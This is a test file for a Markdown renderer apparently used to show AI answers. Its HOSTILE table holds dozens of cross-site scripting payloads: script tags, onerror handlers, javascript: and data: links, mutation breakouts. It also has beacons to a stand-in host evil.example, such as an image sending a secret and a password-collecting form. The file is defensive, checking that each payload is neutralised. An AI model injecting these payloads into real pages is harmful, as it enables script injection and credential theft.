import { describe, expect, it } from "vitest";
import { Markdown, patch } from "../src/markdown";
import { expectHarmless } from "./harmless";

const markdown = new Markdown();

function shown(source: string): HTMLElement {
  const box = document.createElement("div");
  box.append(markdown.render(source));
  return box;
}

const HOSTILE: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "script in a block": "text\n\n<div><script>alert(1)</script></div>",
  "image error": '<img src=x onerror="alert(1)">',
  "svg load": "<svg onload=alert(1)><circle/></svg>",
  "svg script": "<svg><script>alert(1)</script></svg>",
  "mathml breakout": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "javascript link": "[click](javascript:alert(1))",
  "javascript link, encoded": "[click](&#106;avascript:alert(1))",
  "javascript link, tab": "[click](java\tscript:alert(1))",
  "javascript link, case": "[click](JaVaScRiPt:alert(1))",
  "javascript autolink": "<javascript:alert(1)>",
  "reference link": "[click][x]\n\n[x]: javascript:alert(1)",
  "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "vbscript link": "[click](vbscript:msgbox)",
  "file link": "[click](file:///etc/passwd)",
  "relative link": "[click](/battles)",
  "protocol-relative link": "[click](//evil.example)",
  "remote image": "![beacon](https://evil.example/x.png?secret=1)",
  "remote image by reference": "![beacon][x]\n\n[x]: https://evil.example/x.png",
  "image with a script address": "![x](javascript:alert(1))",
  "quote breakout in an image": '![x"onerror="alert(1)](https://evil.example/x.png)',
  "quote breakout in a title": '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
  "quote breakout in a code language": '```"><img src=x onerror=alert(1)>\ncode\n```',
  iframe: '<iframe src="https://evil.example"></iframe>',
  "iframe document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object>',
  form: '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  "style element": "<style>@import url(https://evil.example/x.css)</style>",
  "style attribute": '<p style="background:url(https://evil.example/x.png)">x</p>',
  link: '<link rel="stylesheet" href="https://evil.example/x.css">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  video: '<video src="https://evil.example/x.mp4" autoplay></video>',
  "clobbering id": '<a id="strings">x</a><form id="vote-form" name="vote-form"></form>',
  template: "<template><script>alert(1)</script></template>",
  comment: "<!--><img src=x onerror=alert(1)>-->",
  "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "details event": "<details open ontoggle=alert(1)>",
  "table with html": "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "math with html": "$<img src=x onerror=alert(1)>$ and \\(<script>alert(1)</script>\\)",
  "class hijack": '<p class="dialog button">x</p>',
};

describe("hostile output", () => {
  it.each(Object.entries(HOSTILE))("%s leaves only harmless elements", (_name, source) => {
    expectHarmless(shown(source));
  });

  it.each(Object.entries(HOSTILE))("%s is harmless at every point of its arrival", (_name, source) => {
    for (let end = 1; end <= source.length; end += 1) expectHarmless(shown(source.slice(0, end)));
  });

  it("shows raw HTML as text, so that nothing an answer says is hidden", () => {
    expect(shown("Use <script> and <b>bold</b>.").textContent).toBe("Use <script> and <b>bold</b>.\n");
  });

  it("shows an image as text with its address, and loads nothing", () => {
    const box = shown("![A cat](https://evil.example/cat.png)");
    expect(box.querySelector("img, a")).toBeNull();
    expect(box.textContent.trim()).toBe("A cat (https://evil.example/cat.png)");
  });

  it("lets an answer borrow no class of the page", () => {
    const evil = new Markdown({ highlight: () => '<span class="hljs-keyword button dialog">x</span>' });
    const root = evil.render("```js\nx\n```");
    expect(root.querySelector("span")?.className).toBe("hljs-keyword");
  });

  it.each([">", "- ", "*", "_", "[", "(", "`", "|", "#", "~", "<", "$", "\\(", "![", "1. ", "<a", "&", "**a "])(
    "survives 8,000 times %s in reasonable time", (part) => {
      const began = performance.now();
      expectHarmless(shown(part.repeat(8000)));
      expect(performance.now() - began).toBeLessThan(8000);
    }, 20_000,
  );
});

describe("formatting", () => {
  it("draws tables in a box that scrolls and can be reached by keyboard", () => {
    const box = shown("| a | b |\n| :- | -: |\n| 1 | 2 |");
    expect(box.querySelector(".md-table[tabindex='0'] table th")?.textContent).toBe("a");
    expect(box.querySelectorAll("td")[1]?.getAttribute("align")).toBe("right");
  });

  it("keeps formulas as they were written", () => {
    expect(shown("Let $a_1 * b_2$ and \\(x_{i}\\) be.").querySelectorAll(".md-math")[0]?.textContent).toBe("$a_1 * b_2$");
    expect(shown("Let \\(x_{i}\\) be.").textContent.trim()).toBe("Let \\(x_{i}\\) be.");
    expect(shown("$$\na_1 + a_2\n$$\n\nEnd").querySelector(".md-math")?.textContent).toBe("$$\na_1 + a_2\n$$");
    expect(shown("It costs $5 or $10 today").querySelector(".md-math")).toBeNull();
  });

  it("starts headings under the page's own and skips no level", () => {
    const levels = (source: string): string[] =>
      [...shown(source).querySelectorAll("h1,h2,h3,h4,h5,h6")].map((heading) => heading.localName);
    expect(levels("# a\n\n### b\n\n## c\n\n# d")).toEqual(["h4", "h5", "h5", "h4"]);
    expect(levels("### a\n\n# b\n\n###### c\n\n")).toEqual(["h4", "h4", "h5"]);
  });

  it("draws line breaks in tables, lists, tasks and code", () => {
    expect(shown("| a |\n|-|\n| x<br>y |").querySelector("td br")).not.toBeNull();
    expect(shown("- [x] done\n- [ ] open").textContent).toContain("\u2611");
    expect(shown("```python\nprint(1)\n```").querySelector("pre code")?.textContent).toBe("print(1)\n");
    expect(shown("3. c\n4. d").querySelector("ol")?.getAttribute("start")).toBe("3");
  });
});

describe("code blocks", () => {
  it("have a button to copy them, outside of their text", () => {
    const box = document.createElement("div");
    box.append(new Markdown({ copyLabel: "Copy code" }).render("Run\n\n```sh\nls\n```"));
    const button = box.querySelector("button[data-copy-code]");
    expect(button?.textContent).toBe("Copy code");
    expect(button?.parentElement?.querySelector("pre")?.textContent).toBe("ls\n");
    expect(button?.getAttribute("type")).toBe("button");
  });

  it("are not opened by a button that an answer writes itself", () => {
    const box = document.createElement("div");
    box.append(new Markdown({ copyLabel: "Copy code" }).render("<button data-copy-code>Copy</button>"));
    expect(box.querySelector("button")).toBeNull();
  });
});

describe("patch", () => {
  it("keeps the elements of blocks that did not change", () => {
    const box = document.createElement("div");
    patch(box, markdown.render("# Title\n\nOne"));
    const title = box.firstElementChild;
    patch(box, markdown.render("# Title\n\nOne two\n\nThree"));
    expect(box.firstElementChild).toBe(title);
    expect(box.textContent).toContain("Three");
    patch(box, markdown.render("Short"));
    expect(box.textContent.trim()).toBe("Short");
  });
});
